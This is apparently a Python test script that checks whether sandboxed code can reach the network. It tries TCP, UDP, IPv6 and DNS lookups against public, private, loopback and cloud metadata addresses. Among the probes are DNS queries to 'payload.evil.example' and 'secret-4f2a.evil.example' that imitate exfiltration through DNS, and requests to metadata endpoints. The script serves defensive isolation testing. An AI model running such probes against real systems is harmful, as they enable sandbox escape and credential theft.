"""What user code tries to reach without being let out: prints what it got through."""
import errno, json, socket, sys

dns = int(sys.argv[1])
through = []


def attempt(name, act):
    try:
        act()
        through.append(name)
    except OSError:
        pass


def tcp(address, port):
    with socket.create_connection((address, port), 2) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        if not connection.recv(1):
            raise OSError(errno.ECONNRESET, "ended")


def udp(address, port):
    question = b"\0\7\1\0\0\1\0\0\0\0\0\0\7payload\4evil\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.connect((address, port))
        sender.send(question)
        if not sender.recv(512):
            raise OSError(errno.ECONNRESET, "ended")


for address in ["1.1.1.1", "10.0.0.1", "169.254.169.254", "192.168.0.1", "127.0.0.1", "127.64.0.1", "127.64.9.9", "0.0.0.0"]:
    for port in [80, 443, dns]:
        attempt("tcp %s %d" % (address, port), lambda: tcp(address, port))
    attempt("udp %s" % address, lambda: udp(address, dns))
attempt("udp 1.1.1.1 53", lambda: udp("1.1.1.1", 53))
attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), 2))
for name in ["secret-4f2a.evil.example", "evil.example", "x.y.z.allowed.example", "metadata.google.internal"]:
    for kind in [socket.AF_INET, socket.AF_INET6, socket.AF_UNSPEC]:
        attempt("name %s" % name, lambda: socket.getaddrinfo(name, 443, kind))
print(json.dumps(through))
